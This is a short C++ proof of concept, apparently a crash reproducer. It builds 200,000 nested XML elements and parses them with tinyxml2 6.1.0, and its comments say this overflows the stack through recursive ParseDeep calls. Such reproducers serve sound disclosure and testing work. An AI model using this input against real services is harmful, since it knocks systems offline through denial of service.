// SPDX-License-Identifier: MIT
// Parses a document of 200,000 nested elements, as an attacker would send it: tinyxml2 6.1.0
// descends one call of XMLNode::ParseDeep per level and overflows the stack.
#include <tinyxml2.h>

#include <cstdio>
#include <string>

int main() {
  constexpr int kDepth = 200000;
  std::string xml;
  for (int i = 0; i < kDepth; ++i) xml += "<a>";
  for (int i = 0; i < kDepth; ++i) xml += "</a>";
  tinyxml2::XMLDocument document;
  const tinyxml2::XMLError error = document.Parse(xml.c_str(), xml.size());
  std::printf("parsed: error %d\n", static_cast<int>(error));
  return 0;
}
